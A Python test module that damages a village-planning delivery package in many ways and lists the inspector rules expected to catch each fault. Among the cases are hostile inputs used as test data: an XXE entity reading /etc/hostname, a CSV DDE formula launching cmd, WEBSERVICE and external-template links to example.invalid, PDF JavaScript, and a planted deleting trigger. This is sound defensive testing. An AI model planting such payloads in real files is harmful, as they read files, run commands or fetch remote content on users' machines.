"""Kinds of damage to a package, and the ids of the rules that find each; a path in them is looked for, so that they fit any package of ours."""

from __future__ import annotations

import re
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path
from typing import Callable

import openpyxl
import shapely
from osgeo import gdal, ogr

from tests.delivery.plans import CRS, box
from village_planner.delivery import inspect_package
from village_planner.delivery.manifest import read_manifest, write_manifest
from village_planner.delivery.sheet_files import read_sheet_figures, stamp_jpg
from village_planner.spatial.blob import register_functions, to_blob

Damage = Callable[[Path], None]


def rules_found(path: Path) -> set[str]:
    """Ids of all rules with a finding, of the package or of the plan in it."""
    inspection = inspect_package(path)
    return {*inspection.findings["rule"], *inspection.plan_result.findings["rule"]}


def file_of(package: Path, suffix: str) -> Path:
    """The only file of the package with this suffix."""
    return next(path for path in package.rglob(f"*{suffix}") if path.is_file())


class NothingToDamage(Exception):
    """The package does not have what this kind of damage is done to."""


def sql(*statements: str) -> Damage:
    """Damage by SQL to the GeoPackage. Raises NothingToDamage."""

    def damage(package: Path) -> None:
        with closing(sqlite3.connect(file_of(package, ".gpkg"))) as connection, connection:
            register_functions(connection)
            for statement in statements:
                if connection.execute(statement).rowcount == 0:
                    raise NothingToDamage(statement)

    return damage


def vector(edit: Callable[[ogr.DataSource], None]) -> Damage:
    """Damage through GDAL to the GeoPackage."""

    def damage(package: Path) -> None:
        source = gdal.OpenEx(str(file_of(package, ".gpkg")), gdal.OF_VECTOR | gdal.OF_UPDATE)
        edit(source)
        del source

    return damage


def as_text(layer: str, field: str) -> Callable[[ogr.DataSource], None]:
    """Make a field a text field of the same name."""

    def edit(source: ogr.DataSource) -> None:
        table = source.GetLayerByName(layer)
        definition = ogr.FieldDefn(field, ogr.OFTString)
        table.AlterFieldDefn(table.FindFieldIndex(field, 1), definition, ogr.ALTER_TYPE_FLAG)

    return edit


def move_layer_to(crs: str) -> Damage:
    """Write the layers again, CZBD in another CRS, and lose the Chinese names of the fields as GDAL before 3.7 does."""

    def damage(package: Path) -> None:
        path = file_of(package, ".gpkg")
        copy = path.with_suffix(".copy.gpkg")
        path.rename(copy)
        with closing(sqlite3.connect(copy)) as connection:
            layers = [name for name, in connection.execute("SELECT table_name FROM gpkg_contents ORDER BY table_name")]
        for layer in layers:
            options = {"layers": [layer], "format": "GPKG", "accessMode": "update" if path.exists() else None, "layerName": layer}
            if layer == "CZBD":
                options["dstSRS"] = crs
            gdal.VectorTranslate(str(path), str(copy), **options)
        copy.unlink()
        with closing(sqlite3.connect(path)) as connection, connection:
            if connection.execute("SELECT 1 FROM sqlite_master WHERE name = 'gpkg_data_columns'").fetchone():
                connection.execute("DELETE FROM gpkg_data_columns")

    return damage


def text(suffix: str, old: str, new: str) -> Damage:
    """Replace text in a file."""

    def damage(package: Path) -> None:
        path = file_of(package, suffix)
        before = path.read_text(encoding="utf-8")
        assert old in before
        path.write_text(before.replace(old, new), encoding="utf-8")

    return damage


def bytes_of(suffix: str, change: Callable[[bytes], bytes]) -> Damage:
    """Change the bytes of a file."""

    def damage(package: Path) -> None:
        path = file_of(package, suffix)
        path.write_bytes(change(path.read_bytes()))

    return damage


def resealed(package: Path) -> None:
    """Write the manifest again, so that only the damage itself is found."""
    manifest = read_manifest(package)
    assert manifest is not None
    write_manifest(package, manifest)


def cell(sheet: str, place: str, change: Callable[[object], object]) -> Damage:
    """Change a cell of the workbook."""

    def damage(package: Path) -> None:
        path = file_of(package, "规划表格.xlsx")
        book = openpyxl.load_workbook(path)
        book[sheet][place] = change(book[sheet][place].value)
        book.save(path)

    return damage


def part(suffix: str, name: str, change: Callable[[bytes], bytes]) -> Damage:
    """Change a part of a workbook or document; a part that is not there is made of no bytes."""

    def damage(package: Path) -> None:
        path = file_of(package, suffix)
        with zipfile.ZipFile(path) as archive:
            parts = {info.filename: archive.read(info) for info in archive.infolist()}
        before = parts.get(name, b"")
        parts[name] = change(before)
        assert parts[name] != before
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, content in parts.items():
                archive.writestr(member, content)

    return damage


def added(folder: str, name: str, content: bytes) -> Damage:
    """A file that nobody asked for."""

    def damage(package: Path) -> None:
        (package / folder).mkdir(parents=True, exist_ok=True)
        (package / folder / name).write_bytes(content)

    return damage


def in_format(suffix: str, layer: str, edit: Callable[[ogr.Layer], object]) -> Damage:
    """Damage through GDAL to one layer of the FileGDB (.gdb) or the shapefiles (SHP)."""

    def damage(package: Path) -> None:
        own = next(path for path in package.rglob(f"*{suffix}") if path.is_dir())
        source = gdal.OpenEx(str(own / f"{layer}.shp" if suffix == "SHP" else own), gdal.OF_VECTOR | gdal.OF_UPDATE)
        table = source.GetLayerByName(layer)
        edit(table)
        del table
        source.FlushCache()

    return damage


def first_value(field: str, value: object) -> Callable[[ogr.Layer], None]:
    """Change a value of the first row."""

    def edit(layer: ogr.Layer) -> None:
        feature = layer.GetNextFeature()
        feature.SetField(field, value)
        assert layer.SetFeature(feature) == 0

    return edit


def moved_1_m(layer: ogr.Layer) -> None:
    """Move the first polygon by one metre."""
    feature = layer.GetNextFeature()
    shape = shapely.from_wkb(bytes(feature.GetGeometryRef().ExportToWkb()))
    feature.SetGeometry(ogr.CreateGeometryFromWkb(shapely.to_wkb(shapely.transform(shape, lambda xy: xy + (1.0, 0.0)))))
    assert layer.SetFeature(feature) == 0


def renamed_field(old: str, new: str) -> Callable[[ogr.Layer], None]:
    """Give a field another name."""
    return lambda layer: layer.AlterFieldDefn(layer.FindFieldIndex(old, 1), ogr.FieldDefn(new, ogr.OFTString), ogr.ALTER_NAME_FLAG)


def shorter_tables(package: Path) -> None:
    """Cut all tables of the FileGDB to a third."""
    for path in package.rglob("*.gdbtable"):
        if path.stat().st_size > 200:
            path.write_bytes(path.read_bytes()[: path.stat().st_size // 3])


def other_figures(package: Path) -> None:
    """A map sheet that counts one village more."""
    path = file_of(package, ".jpg")
    facts = read_sheet_figures(path)
    next(iter(facts["figures"]["category"].values()))["villages"] += 1
    stamp_jpg(path, facts, 300)


def more_households(content: bytes) -> bytes:
    """Another number in the text where it tells the households that move."""
    return re.sub(rb'(w:name="vp_move_households"/><w:r>(?:<w:rPr>.*?</w:rPr>)?<w:t[^>]*>)\d+<', rb"\g<1>99999<", content)


def far_away(package: Path) -> None:
    """A hamlet 200 km to the east of its township."""
    with closing(sqlite3.connect(file_of(package, ".gpkg"))) as connection, connection:
        register_functions(connection)
        connection.execute("UPDATE JMD SET geom = ? WHERE fid = 1", to_blob([shapely.Point(700_000.0, 3_990_000.0)], CRS))


def without_sheet(package: Path) -> None:
    """Take a sheet out of the workbook."""
    path = file_of(package, "规划表格.xlsx")
    book = openpyxl.load_workbook(path)
    del book["B3村庄分类汇总表"]
    book.save(path)


def bow_tie(package: Path) -> None:
    """A village polygon that crosses itself."""
    corners = list(box(0, 0, 100, 100).exterior.coords)
    shape = shapely.multipolygons([shapely.Polygon([corners[0], corners[2], corners[1], corners[3]])])
    with closing(sqlite3.connect(file_of(package, ".gpkg"))) as connection, connection:
        register_functions(connection)
        connection.execute("UPDATE CZBD SET geom = ? WHERE fid = 1", to_blob([shape], CRS))


def arc(package: Path) -> None:
    """A site whose corner is rounded by an arc."""
    x, y = box(900, 500, 70, 80).bounds[:2]
    ring = f"({x} {y},{x} {y + 80},{x + 70} {y + 80},{x + 70} {y + 10})"
    curved = f"CURVEPOLYGON(COMPOUNDCURVE({ring},CIRCULARSTRING({x + 70} {y + 10},{x + 67.0710678} {y + 2.9289322},{x + 60} {y}),({x + 60} {y},{x} {y})))"
    vector(lambda source: _set_shape(source.GetLayerByName("AZD"), ogr.CreateGeometryFromWkt(f"MULTISURFACE({curved})")))(package)


def _set_shape(layer: ogr.Layer, shape: ogr.Geometry) -> None:
    feature = layer.GetNextFeature()
    feature.SetGeometry(shape)
    assert layer.SetFeature(feature) == 0


def spread(package: Path) -> None:
    """A village polygon that reaches 10 m into its neighbour's."""
    with closing(sqlite3.connect(file_of(package, ".gpkg"))) as connection, connection:
        register_functions(connection)
        connection.execute("UPDATE CZBD SET geom = ? WHERE fid = 1", to_blob([shapely.multipolygons([box(0, 0, 2_010, 3_900)])], CRS))


DAMAGES: list[tuple[str, Damage, set[str]]] = [
    ("metadata missing", lambda package: file_of(package, ".xml").unlink(), {"QC-1101"}),
    ("workbook under another name", lambda package: file_of(package, "规划表格.xlsx").rename(package / "3规划表格" / "表格.xlsx") and None, {"QC-1101"}),
    ("GeoPackage missing", lambda package: file_of(package, ".gpkg").unlink(), {"QC-1101", "QC-1201"}),
    ("a folder that the tree does not have", lambda package: (package / "7杂项").mkdir(), {"QC-1101"}),
    ("GeoPackage cut short", bytes_of(".gpkg", lambda content: content[: len(content) // 2]), {"QC-1103"}),
    ("GeoPackage full of rubbish", bytes_of(".gpkg", lambda content: b"rubbish" * 500), {"QC-1103"}),
    ("workbook full of rubbish", bytes_of("规划表格.xlsx", lambda content: b"rubbish"), {"QC-1103"}),
    ("workbook cut short", bytes_of("规划表格.xlsx", lambda content: content[:-200]), {"QC-1103"}),
    ("record that is no UTF-8", bytes_of(".csv", lambda content: "序号".encode("gbk")), {"QC-1103"}),
    ("sheet missing", without_sheet, {"QC-1201"}),
    ("metadata not well-formed", text(".xml", "</元数据>", ""), {"QC-1102"}),
    ("mandatory metadata empty", text(".xml", "清河县村庄布局规划（2020—2035年）</标题>", "</标题>"), {"QC-1102"}),
    ("metadata with an entity", text(".xml", "<元数据>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><元数据>'), {"PK-02"}),
    ("layer missing", vector(lambda source: source.ExecuteSQL("DROP TABLE JMDYD")), {"QC-1201", "PK-01"}),
    ("layer that the profile does not have", vector(lambda source: source.CreateLayer("EXTRA", None, ogr.wkbNone)), {"QC-3101"}),
    ("field missing", vector(lambda source: source.GetLayerByName("JMD").DeleteField(source.GetLayerByName("JMD").FindFieldIndex("BHSM", 1))), {"QC-3101"}),
    ("field that the profile does not have", vector(lambda source: source.GetLayerByName("AZD").CreateField(ogr.FieldDefn("XX", ogr.OFTReal))), {"QC-3101"}),
    ("field of another type", vector(as_text("CMBJ", "BJRQ")), {"QC-3101"}),
    ("number where the column says text", sql("UPDATE CZBD SET BZ = x'3132' WHERE fid = 1"), set()),
    ("text wider than its field", sql("UPDATE CZBD SET FLYJ = printf('%.*c', 300, 'x') WHERE fid = 1"), {"QC-3101"}),
    ("code outside its domain", sql("UPDATE CZBD SET CZXZ = '99' WHERE fid = 1"), {"QC-3104"}),
    ("mandatory value missing", sql("UPDATE CZBD SET SSXZMC = NULL WHERE fid = 1"), {"QC-3106"}),
    ("conditional value missing", sql("UPDATE CZQBGX SET QRXZQDM = NULL WHERE RWBH = 'M1'"), {"QC-3106", "QC-7103", "QC-6101"}),
    ("serial twice", sql("UPDATE JMD SET BSM = (SELECT BSM FROM JMD WHERE fid = 2) WHERE fid = 1"), {"QC-3302"}),
    ("serial too short", sql("UPDATE JMD SET BSM = '37079990' WHERE fid = 1"), {"QC-3302"}),
    ("serial of another county", sql("UPDATE JMD SET BSM = '370800' || substr(BSM, 7) WHERE fid = 1"), {"QC-3302"}),
    ("polygon that crosses itself", bow_tie, {"QC-4105"}),
    ("area that is not that of its polygon", sql("UPDATE JMDYD SET YDMJ = YDMJ + 2 WHERE fid = 1"), {"QC-3401"}),
    ("area that differs by the rounding of another program", sql("UPDATE JMDYD SET YDMJ = YDMJ + 0.9 WHERE fid = 1"), set()),
    ("arc in an outline", arc, {"QC-4106", "QC-4701", "QC-3401", "QC-3403", "QC-6101"}),
    ("village over its neighbour", spread, {"QC-4101", "QC-6101"}),
    ("hamlet of an unknown village", sql("UPDATE JMD SET XZQDM = '370799109999' WHERE JMDDM = '370799102202001'"), {"QC-3301"}),
    ("layer in WGS 84", move_layer_to("EPSG:4326"), {"QC-3101", "QC-2201", "QC-2204"}),
    ("layer in degrees", move_layer_to("EPSG:4490"), {"QC-3101", "QC-2203", "QC-2204"}),
    ("layer in the next zone", move_layer_to("EPSG:4548"), {"QC-3101", "QC-2204"}),
    ("difference not settled", sql("UPDATE MLHD SET CLJG = NULL"), {"QC-7101"}),
    ("village without a category", sql("UPDATE CZBD SET CZFLDM = NULL, CZFLMC = NULL, FLYJ = NULL WHERE fid = 4"), {"QC-7102", "QC-6101"}),
    ("phase that the plan does not have", sql("UPDATE CZQBGX SET QBSX = 2030 WHERE RWBH = 'M1'"), {"QC-7103", "QC-6101"}),
    ("destination that does not exist", sql("UPDATE CZQBGX SET QRXZQDM = 'AZ99' WHERE RWBH = 'M2'"), {"QC-6101", "QC-7104"}),
    ("consent missing", sql("DELETE FROM CMBJ WHERE BJBH = 'C2'"), {"QC-7105", "PK-01", "QC-6101"}),
    ("protected hamlet withdrawn", sql("UPDATE JMD SET BHLX = '2' WHERE JMDDM = '370799101201002'"), {"QC-7106"}),
    ("households that do not add up", sql("UPDATE CZQBGX SET QBHS = 5 WHERE RWBH = 'M3'"), {"QC-7108", "QC-6101"}),
    ("field renamed", vector(lambda source: renamed_field("CZMC", "CUNMING")(source.GetLayerByName("CZBD"))), {"QC-3101"}),
    ("serial twice in two layers", sql("UPDATE JMD SET BSM = (SELECT BSM FROM CZBD WHERE fid = 1) WHERE fid = 1"), {"QC-3302"}),
    ("feature code of another layer", sql("UPDATE JMD SET YSDM = '2090029010' WHERE fid = 1"), {"QC-3303"}),
    ("name of a category that is not its code's", sql("UPDATE CZBD SET CZFLMC = '城郊融合类' WHERE fid = 1"), {"QC-3303"}),
    ("name of a village that is not its code's", sql("UPDATE JMD SET XZQMC = '别的村' WHERE fid = 1"), {"QC-3301"}),
    ("name of a hamlet that is not its code's", sql("UPDATE CZQBGX SET QCJMDMC = '别的庄' WHERE fid = 1"), {"QC-3303"}),
    ("share above a hundred percent", sql("UPDATE CZBD SET CMYJTYL = 120 WHERE fid = 3"), {"QC-3105"}),
    ("patch number twice", sql("UPDATE JMDYD SET YDBH = (SELECT YDBH FROM JMDYD WHERE fid = 2) WHERE fid = 1"), {"QC-3304"}),
    ("village code of a patch that lost a digit", sql("UPDATE JMDYD SET XZQDM = substr(XZQDM, 1, 11) WHERE fid = 1"), {"QC-3305", "QC-3301"}),
    ("built land of a village that its patches do not give", sql("UPDATE CZBD SET XZCZJSYDMJ = XZCZJSYDMJ + 500 WHERE fid = 1"), {"QC-3403"}),
    ("planned land of a hamlet that its patches do not give", sql("UPDATE JMD SET GHYDMJ = GHYDMJ + 500 WHERE fid = 1"), {"QC-3403"}),
    ("length of a move that its line has not", sql("UPDATE CZQBGX SET JL = JL + 100 WHERE fid = 1"), {"QC-6101"}),
    ("capacity that the phases do not give", sql("UPDATE AZD SET AZRL = AZRL + 1 WHERE fid = 1"), {"QC-6101"}),
    ("hamlet far beyond the township", far_away, {"QC-2204", "QC-7104"}),
    ("area in a cell changed by 0.02 ha", cell("B5分期任务汇总表", "H8", lambda value: round(float(value) + 0.02, 4)), {"QC-6101"}),
    ("formula in a cell", cell("B5分期任务汇总表", "AZ1", lambda _: "=1+1"), {"PK-02"}),
    ("formula that fetches", cell("B5分期任务汇总表", "AZ1", lambda _: '=WEBSERVICE("http://example.invalid/")'), {"PK-02"}),
    ("macros in the workbook", part("规划表格.xlsx", "xl/vbaProject.bin", lambda _: b"macro"), {"PK-02"}),
    ("entity in a sheet", part("规划表格.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<worksheet", b"<!DOCTYPE x><worksheet", 1)), {"PK-02"}),
    ("formula in the record", bytes_of(".csv", lambda content: content + b"=cmd|' /C calc'!A0,,\r\n"), {"PK-02"}),
    ("trigger in the GeoPackage", sql("CREATE TRIGGER planted AFTER UPDATE ON CZBD BEGIN DELETE FROM JMD; END"), {"PK-02"}),
    ("program among the other material", added("6其他材料", "查看.exe", b"MZ"), {"PK-02", "QC-1101"}),
    ("path of more than 200 characters", added(f"5数据说明/{'长' * 70}/{'附' * 70}/{'件' * 60}", "a.txt", b"x"), {"QC-1101"}),
    ("attachment lacking", text("manifest.json", '"lacking": []', '"lacking": [{"title": "决议", "file": "决议.pdf", "reason": "x"}]'), {"PK-04"}),
    ("metadata of another coordinate system", text(".xml", "<EPSG代码>", "<EPSG代码>1"), {"QC-1102"}),
]
"""To GeoPackage, workbook, metadata, record and tree."""

IN_ALL_FORMATS: list[tuple[str, Damage, set[str]]] = [
    ("text missing", lambda package: file_of(package, "规划文本.docx").unlink(), {"QC-1101"}),
    ("text cut short", bytes_of("规划文本.docx", lambda content: content[:-100]), {"QC-1103"}),
    ("number changed in the explanation", part("说明书.docx", "word/document.xml", more_households), {"NL-11"}),
    ("template of the text elsewhere", part("规划文本.docx", "word/_rels/settings.xml.rels", lambda _: (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" TargetMode="External" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/a.dotm"/></Relationships>'
    )), {"PK-02"}),
    ("another name in the table of unit codes", part("单位代码表.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        *(name.encode("ascii", "xmlcharrefreplace") for name in ("李家屯村", "李家村"))
    )), {"QC-3301"}),
    ("figure changed on a map sheet", other_figures, {"NL-12"}),
    ("picture of a map sheet cut short", bytes_of(".jpg", lambda content: content[:-40]), {"QC-1103"}),
    ("script in the PDF of a map sheet", bytes_of(".pdf", lambda content: content.replace(b"%%EOF", b"<< /S /JavaScript >>\n%%EOF")), {"PK-02"}),
    ("FileGDB cut short", shorter_tables, {"QC-1103"}),
    ("polygon of the FileGDB moved by 1 m", in_format(".gdb", "CZBD", moved_1_m), {"PK-05"}),
    ("value changed in the FileGDB", in_format(".gdb", "CZBD", first_value("HJRK", 7)), {"PK-05"}),
    ("field of the FileGDB renamed", in_format(".gdb", "CZBD", renamed_field("FLYJ", "YIJU")), {"QC-3101"}),
    ("row missing in the shapefiles", in_format("SHP", "CZBD", lambda layer: layer.DeleteFeature(0)), {"PK-05"}),
    ("table of a shapefile missing", lambda package: file_of(package, "CZBD.dbf").unlink(), {"QC-3101"}),
    ("VCT cut short", bytes_of(".vct", lambda content: content[: len(content) // 2]), {"QC-1103"}),
    ("value changed in the VCT", bytes_of(".vct", lambda content: content.replace("东河安置点,1".encode("gb18030"), "东河点,1".encode("gb18030"))), {"PK-05"}),
]
"""To documents, map sheets, FileGDB, shapefiles and VCT."""
